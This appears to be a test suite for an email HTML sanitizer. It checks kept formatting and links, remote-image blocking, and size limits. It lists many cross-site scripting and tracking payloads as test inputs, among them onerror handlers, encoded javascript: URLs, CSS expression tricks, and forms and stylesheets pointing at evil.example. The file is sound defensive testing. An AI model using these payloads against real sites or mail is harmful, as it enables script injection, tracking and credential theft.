import fc from 'fast-check'
import { withRemoteImages } from '../../../functions/email/messages/mime/remote-images.ts'
import { safeHtml } from '../../../functions/email/messages/mime/safe-html.ts'

const shown = (source: string) => safeHtml(source).html

/** Every output tag has only known attributes in double quotes. */
const wellWritten =
  /^(?:[^<>]|<\/[a-z0-9]+>|<[a-z0-9]+(?: (?:align|alt|bgcolor|border|cellpadding|cellspacing|color|colspan|dir|face|height|lang|rowspan|size|start|style|title|valign|width|href|target|rel|data-remote-src|data-cid)="[^"<>]*")*>)*$/

describe('sanitized HTML', () => {
  it.each([
    ['words and their look', '<p style="color: #f00">Olá, <b>mundo</b> &amp; cia</p>'],
    ['tables', '<table border="0"><tr><td colspan="2">x</td></tr></table>'],
  ])('keeps %s', (_, source) => expect(shown(source)).toBe(source))

  it('keeps links to web, mail and telephone, with a new target', () => {
    expect(shown('<a href="https://loja.example/p?a=1&b=2" onclick="x()">x</a>')).toBe(
      '<a href="https://loja.example/p?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    )
    for (const href of ['mailto:a@b.c', 'tel:+5511']) expect(shown(`<a href="${href}">x</a>`)).toContain(href)
  })

  it.each([
    ['<script>alert(1)</script>'],
    ['<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
    ['<img src=x onerror=alert(1)>'],
    ['<img src="https://a.example/x.png" onerror="alert(1)" onload=alert(1)>'],
    ['<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
    [
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    ],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['<textarea></textarea><img src=x onerror=alert(1)></textarea>'],
    ['<a href="javascript:alert(1)">x</a>'],
    ['<a href=" java\tscript\n:alert(1)">x</a>'],
    ['<a href="&#106;avascript:alert(1)">x</a>'],
    ['<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['<a href="vbscript:x">x</a>'],
    ['<a href="java&Tab;script&colon;alert(1)">x</a><a href="&#x6A;avascript:alert(1)">x</a>'],
    ['<img src="java&Tab;script:x"><img src="&#104;ttps://evil.example/x.png">'],
    ['<p style="width:&#101;xpression(alert(1)); background:u&#114;l(//evil.example)">x</p>'],
    ['<iframe src="https://evil.example"></iframe>'],
    ['<form action="https://evil.example"><input name="senha"><button>x</button></form>'],
    ['<object data="x.swf"></object><embed src="x.swf">'],
    ['<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">'],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example)}</style>'],
    ['<div style="background-image: url(https://evil.example/x.png)">x</div>'],
    ['<div style="width: expression(alert(1))">x</div>'],
    ['<div style="position: fixed; top: 0; left: 0; z-index: 9999">x</div>'],
    ['<p title="&quot; onmouseover=&quot;alert(1)">x</p>'],
    ['<img src="https://a.example/`onerror=alert(1)`">'],
    ['<body onload=alert(1)><video src=x onerror=alert(1)></video><audio onplay=alert(1)></audio>'],
    ['<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>'],
    ['<!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>'],
    [
      '<img src="cid:x" srcset="https://evil.example/x 2x"><picture><source srcset="https://evil.example"></picture>',
    ],
    ['<td background="https://evil.example/x.png">x</td>'],
  ])('removes what acts or fetches: %s', (source) => {
    const html = shown(source)
    expect(html).toMatch(wellWritten)
    expect(html.replace(/="[^"]*"/g, '')).not.toMatch(/<[^>]*(?:\bon\w+|script|srcset|background)/i)
    expect(html).not.toMatch(/(?:src|href)="(?!https?:|mailto:|tel:)/i)
    expect(html).not.toMatch(/ src=/)
    expect(html).not.toMatch(/url\(|expression|position|@import|z-index/i)
  })

  it('contains only known tags and attributes, and is stable when sanitized again', () => {
    const piece = fc.constantFrom(
      ...['<', '>', '"', "'", '=', '/', ' ', '<script', '</script>', '<img src=', 'onerror=x', '<!--', '-->'],
      ...[
        '<a href=',
        'javascript:',
        '<style>',
        '</style>',
        '<p ',
        '&lt;',
        '&#x3c;',
        '<svg>',
        '</svg>',
        '`',
        'x',
      ],
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const html = shown(pieces.join(''))
        expect(html).toMatch(wellWritten)
        expect(shown(html.replaceAll('data-remote-src', 'src').replaceAll('data-cid="', 'src="cid:'))).toBe(
          html,
        )
      }),
      { numRuns: 500 },
    )
  })

  it('has remote images off unless requested', () => {
    const { html, remoteImages } = safeHtml(
      '<img src="https://a.example/x.png?id=maria" width="1"><img src="cid:logo@x">',
    )
    expect(html).toBe(
      '<img width="1" data-remote-src="https://a.example/x.png?id=maria"><img data-cid="logo@x">',
    )
    expect(remoteImages).toBe(1)
    expect(withRemoteImages(html)).toContain('<img width="1" src="https://a.example/x.png?id=maria">')
  })

  it('of a hostile mail is well-formed and at most half a million characters long', () => {
    for (const source of [
      '<div>'.repeat(200_000),
      '<b'.repeat(400_000),
      '&amp;'.repeat(200_000),
      '<p>x'.repeat(250_000),
    ]) {
      const html = shown(source)
      expect(html.length).toBeLessThan(510_000)
      const count = (pattern: RegExp) => html.match(pattern)?.length ?? 0
      expect(count(/<[a-z]/g)).toBe(count(/<\//g))
    }
  })
})
